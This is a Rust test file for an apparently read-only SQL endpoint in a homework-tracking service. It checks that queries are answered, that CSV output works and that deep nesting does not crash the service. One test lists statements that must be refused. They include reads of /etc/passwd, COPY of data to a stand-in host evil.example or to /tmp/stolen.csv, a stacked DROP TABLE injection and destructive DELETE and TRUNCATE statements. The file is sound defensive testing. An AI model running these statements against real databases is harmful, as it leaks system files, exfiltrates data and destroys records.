//! The SQL door reads, and does nothing else.

use crate::app::TestApp;
use crate::snapshot;

#[tokio::test]
async fn sql_reads_events_rollups_and_codes() {
    let app = TestApp::with_homework().await;
    let answer = app.sql("SELECT subject, count(*) AS pieces FROM homework GROUP BY subject ORDER BY subject").await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    snapshot!("sql", answer.redacted());
    let day = app.sql("SELECT sum(homework_expected) AS n FROM student_day").await;
    assert_eq!(day.json()["rows"][0]["n"], 36, "{}", day.text());
    let codes = app.sql("SELECT count(*) AS n FROM code_subjects WHERE code = 'math'").await;
    assert_eq!(codes.json()["rows"][0]["n"], 1, "{}", codes.text());
}

#[tokio::test]
async fn sql_may_be_plain_text_and_answer_in_csv() {
    let app = TestApp::start().await;
    let answer = app.post("/v1/sql?format=csv", "text/plain", "SELECT 1 AS one").await;
    assert_eq!(answer.text(), "\u{feff}one\n1\n");
    for body in ["SELECT 1 AS one", " {\"sql\": \"SELECT 1 AS one\"}"] {
        let curl = app.post("/v1/sql", "application/x-www-form-urlencoded", body).await;
        assert_eq!(curl.json()["rows"][0]["one"], 1, "{body}: {}", curl.text());
    }
}

#[tokio::test]
async fn what_is_not_reading_is_refused() {
    let app = TestApp::with_homework().await;
    let refused = [
        "CREATE TABLE t (a INT)",
        "CREATE VIEW v AS SELECT 1",
        "CREATE EXTERNAL TABLE t STORED AS CSV LOCATION '/etc/passwd'",
        "DROP TABLE homework",
        "DROP VIEW homework",
        "INSERT INTO homework SELECT * FROM homework",
        "UPDATE homework SET minutes = 0",
        "DELETE FROM homework",
        "TRUNCATE TABLE homework",
        "COPY homework TO '/tmp/stolen.csv'",
        "COPY (SELECT 1) TO 'http://evil.example/x'",
        "SET datafusion.execution.batch_size = 1",
        "RESET datafusion.execution.batch_size",
        "PREPARE p AS SELECT 1",
        "EXPLAIN ANALYZE INSERT INTO homework SELECT * FROM homework",
        "SELECT 1; DROP TABLE homework",
        "BEGIN",
        "SELECT * FROM '/etc/passwd'",
        "SELECT * FROM 'file:///etc/passwd.csv'",
        "SELECT * FROM 'http://evil.example/x.parquet'",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_parquet('/etc/passwd')",
        "SELECT * FROM nothing",
        "SELECT nothing FROM homework",
        "SELECT",
        "",
        ";",
        "-- only a comment",
        "SELECT 1/0",
        "SELECT CAST('x' AS INT)",
        "SELECT * FROM homework WHERE",
        "SELECT \u{0}",
        "'unclosed",
    ];
    for sql in refused {
        let answer = app.sql(sql).await;
        assert!(answer.status.is_client_error(), "{sql}: {} {}", answer.status, answer.text());
        answer.problem();
        assert!(!answer.text().contains("root:"), "{sql}");
    }
    let left = app.sql("SELECT count(*) AS n FROM homework").await;
    assert_eq!(left.json()["rows"][0]["n"], 36);
    assert!(!std::path::Path::new("/tmp/stolen.csv").exists());
}

#[tokio::test]
async fn sql_that_is_as_deep_as_it_may_be_does_not_overflow_the_stack() {
    let app = TestApp::start().await;
    let from = "SELECT count(*) AS n FROM code_subjects a";
    let deep = [
        format!("SELECT {}1", "(".repeat(5_000)),
        format!("SELECT {}true", "NOT ".repeat(140)),
        format!("SELECT {}1 AS n", "1+".repeat(140)),
        format!("{from} WHERE {}true", "a.code = 'x' OR ".repeat(70)),
        format!("SELECT 1 AS n {}", "UNION ALL SELECT 1 ".repeat(45)),
        format!("{from} {}", (0..30).map(|i| format!("JOIN code_subjects b{i} USING (code) ")).collect::<String>()),
        format!(
            "WITH c0 AS (SELECT 1 AS n){} SELECT n FROM c40",
            (1..=40).map(|i| format!(", c{i} AS (SELECT n FROM c{})", i - 1)).collect::<String>()
        ),
    ];
    for sql in deep {
        let answer = app.sql(&sql).await;
        assert!(answer.status == 200 || answer.status.is_client_error(), "{sql}: {}", answer.text());
    }
}
